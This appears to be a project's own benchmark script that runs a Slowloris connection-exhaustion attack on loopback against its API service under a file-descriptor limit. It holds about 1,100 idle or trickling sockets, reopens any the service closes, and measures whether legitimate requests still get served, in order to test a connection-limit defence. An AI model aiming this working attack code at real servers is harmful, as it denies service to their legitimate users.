/**
 * Slowloris against a service under a file limit (issue 16, case 5). `--sockets` connections are
 * opened to the service and held: `idle` ones send nothing, `trickle` ones send a request line
 * and then one header line every 2 s, never the blank line that ends the head. A socket the
 * service closes is opened again, as an attacker would. The service runs under
 * `prlimit --nofile=<--file-limit>` (systemd's default soft limit is 1,024). Meanwhile a
 * legitimate request, each on a new connection, is sent every `--interval-ms` for `--seconds`,
 * and its outcome counted per second: a status, `timeout` (no answer in 2 s), or the failure.
 *
 * Without a connection limit the sockets use up the file limit, and the service accepts no
 * legitimate connection for as long as they stay. With listen.maxConnections below the file
 * limit (its default is the limit less 256), sockets that never complete a request give way to
 * ones that do. A /health prober runs beside it (health-prober.ts). Loopback only; the run ends
 * after --seconds, killing the service.
 *
 *   node --import tsx bench/attack/slowloris.ts [--checkout ../mms-main] [--sockets 1100]
 *     [--file-limit 1024] [--mode idle|trickle] [--seconds 20] [--interval-ms 250]
 */
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { parseArgs } from 'node:util';
import { positiveInteger } from '../command-arguments.js';
import { failureOf, legitimateTrafficRow, printOutcomeTable, type Outcome } from './outcome-table.js';
import { startHealthWatch } from './health-watch.js';
import { ATTACK_API_KEY, startServiceChild } from './service-child.js';
import { printSummaryLine } from './summary-line.js';

const { values } = parseArgs({
  options: {
    checkout: { type: 'string' },
    sockets: { type: 'string', default: '1100' },
    'file-limit': { type: 'string', default: '1024' },
    mode: { type: 'string', default: 'idle' },
    seconds: { type: 'string', default: '20' },
    'interval-ms': { type: 'string', default: '250' },
  },
});
if (values.mode !== 'idle' && values.mode !== 'trickle') throw new Error('--mode must be idle or trickle');
const settings = {
  sockets: positiveInteger(values.sockets, 'sockets'),
  fileLimit: positiveInteger(values['file-limit'], 'file-limit'),
  mode: values.mode,
  seconds: positiveInteger(values.seconds, 'seconds'),
  intervalMs: positiveInteger(values['interval-ms'], 'interval-ms'),
};

/** A legitimate request that gets no answer in this time counts as a timeout. */
const REQUEST_TIMEOUT_MS = 2_000;
const TRICKLE_EVERY_MS = 2_000;
/** Connections opened at once while the attack builds up. */
const OPENING_BATCH = 100;

const service = await startServiceChild({
  checkout: values.checkout,
  fileLimit: settings.fileLimit,
  config: {
    models: [
      {
        id: 'mid',
        tier: 'mid',
        generation: 'newer',
        contextWindow: 4096,
        maxOutputTokens: 1024,
        backend: { type: 'scripted' },
      },
    ],
  },
});
const { hostname, port } = new URL(service.baseURL);
// Started before the attack, so that its kept-alive connection is in before the file limit is used up.
const health = await startHealthWatch(service.baseURL);
const attackStartedAt = Date.now();
const attack = new Set<Socket>();
let closedByService = 0;
let attacking = true;
const trickle = setInterval(() => {
  if (settings.mode === 'trickle') for (const socket of attack) if (socket.writable) socket.write('x-slow: 1\r\n');
}, TRICKLE_EVERY_MS);
try {
  for (let opened = 0; opened < settings.sockets; opened += OPENING_BATCH)
    await Promise.all(
      Array.from({ length: Math.min(OPENING_BATCH, settings.sockets - opened) }, () => openAttackSocket()),
    );
  const outcomes: Outcome[] = [];
  const start = Date.now();
  while (Date.now() - start < settings.seconds * 1000) {
    const atMs = Date.now() - start;
    outcomes.push({ atMs, outcome: await legitimateRequest() });
    await new Promise((resolve) => setTimeout(resolve, settings.intervalMs));
  }
  printOutcomeTable(
    `${settings.sockets} ${settings.mode} sockets (reopened when closed) vs a request every ${settings.intervalMs} ms on a new connection; file limit ${settings.fileLimit}; ${values.checkout ?? 'this checkout'}`,
    outcomes,
    2_000,
  );
  console.log(
    `\n${outcomes.filter((entry) => entry.outcome === '200').length} of ${outcomes.length} served; attack sockets closed by the service (and reopened): ${closedByService}`,
  );
  const { worstGapMs, failedProbes } = await health.stop();
  const peakRssMb = service.peakRssMb();
  console.log(
    `worst /health gap ${worstGapMs.toFixed(0)} ms (${failedProbes} probes failed; its connection can be one that gives way); service peak RSS ${peakRssMb?.toFixed(0) ?? 'n/a'} MB`,
  );
  printSummaryLine('slowloris', [
    legitimateTrafficRow(
      `slowloris: ${settings.sockets} ${settings.mode} sockets, file limit ${settings.fileLimit}, ${settings.seconds} s`,
      service,
      outcomes,
      worstGapMs,
      attackStartedAt,
    ),
  ]);
} finally {
  attacking = false;
  clearInterval(trickle);
  for (const socket of attack) socket.destroy();
  await service.stop();
}

/** Opens one attack socket; resolves once it is connected (or failed). Reopens it when the service closes it. */
function openAttackSocket(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    attack.add(socket);
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    socket.once('connect', () => {
      if (settings.mode === 'trickle') socket.write(`POST /v1/messages HTTP/1.1\r\nhost: ${hostname}:${port}\r\n`);
      resolve();
    });
    socket.once('close', () => {
      attack.delete(socket);
      resolve();
      if (!attacking) return;
      closedByService += 1;
      void openAttackSocket();
    });
  });
}

/** One request on a connection of its own, so that the service must accept a new connection. */
function legitimateRequest(): Promise<string> {
  return new Promise((resolve) => {
    const body = JSON.stringify({ model: 'mid', max_tokens: 10, messages: [{ role: 'user', content: 'hello' }] });
    const outgoing = request(
      `${service.baseURL}/v1/messages`,
      {
        method: 'POST',
        agent: false,
        headers: { ...service.headers, 'x-api-key': ATTACK_API_KEY, 'content-length': Buffer.byteLength(body) },
        signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
      },
      (response) => {
        response.resume();
        response.on('end', () => resolve(String(response.statusCode)));
        response.on('error', (error) => resolve(failureOf(error)));
      },
    );
    outgoing.on('error', (error) => resolve(failureOf(error)));
    outgoing.end(body);
  });
}
